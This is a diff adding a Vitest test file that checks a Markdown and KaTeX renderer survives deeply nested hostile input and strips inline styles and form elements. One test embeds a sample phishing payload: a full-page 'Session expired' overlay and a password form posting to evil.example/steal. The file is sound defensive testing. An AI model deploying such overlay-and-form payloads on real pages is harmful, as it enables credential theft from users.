@@ -1,0 +1,46 @@
+// @vitest-environment jsdom
+// Issue 19 #7: the prose renderer (Markdown + KaTeX → sanitised HTML) must answer hostile
+// input with HTML, never an exception, and strip what could overlay or phish the page.
+import { describe, expect, it } from 'vitest';
+import { renderProse } from '../../src/lib/prose/render';
+
+describe('prose rendering of hostile Markdown', () => {
+	it.each([
+		['nested braces in math', '$' + '{'.repeat(5000) + 'x' + '}'.repeat(5000) + '$'],
+		['nested braces in display math', '$$' + '{'.repeat(5000) + '$$'],
+		['nested brackets', '['.repeat(5000) + 'x' + ']'.repeat(5000)],
+		['nested quotes', '>'.repeat(5000) + ' x'],
+		['nested lists (deeper than the length cap allows)', Array.from({ length: 2000 }, (_, i) => ' '.repeat(i * 2) + '- x').join('\n')],
+		['nested HTML', '<div>'.repeat(2000) + 'x' + '</div>'.repeat(2000)]
+	])('%s: no exception, some text', (_name, md) => {
+		let html = '';
+		expect(() => (html = renderProse(md))).not.toThrow();
+		expect(html.length).toBeGreaterThan(0);
+	});
+
+	it('keeps a placeholder-like text or one inside an attribute as text', () => {
+		const html = renderProse('@@MATH7@@ and [link](https://example.org "$x$") $y$');
+		expect(html).toContain('@@MATH7@@');
+		expect(html).toContain('title="@@MATH0@@"');
+		expect(html).toContain('class="katex"');
+	});
+
+	it('strips inline styles (a full-page overlay) and form elements', () => {
+		const html = renderProse(
+			'<div style="position:fixed;inset:0;z-index:9999;background:white">Session expired</div>\n\n' +
+				'<form action="https://evil.example/steal"><input name="password" type="password"><button>Log in</button><select><option>a</option></select><textarea>t</textarea></form>\n\n' +
+				'<span style="color:red">red</span> and *emphasis*'
+		);
+		expect(html).not.toMatch(/style=|position:\s*fixed/i);
+		expect(html).not.toMatch(/<(form|input|button|select|option|textarea)\b/i);
+		expect(html).toContain('Session expired'); // the text stays, harmless
+		expect(html).toContain('<em>emphasis</em>');
+	});
+
+	it('keeps KaTeX’s own layout styles in math', () => {
+		const html = renderProse('Inline $\\frac{a}{b}$ and $$\\sum_{i=1}^{W} x_i$$');
+		expect(html).toContain('class="katex"');
+		expect(html).toMatch(/<span class="katex-strut" style="height:/); // KaTeX sizes lines with inline styles
+		expect(html).toContain('katex-display');
+	});
+});
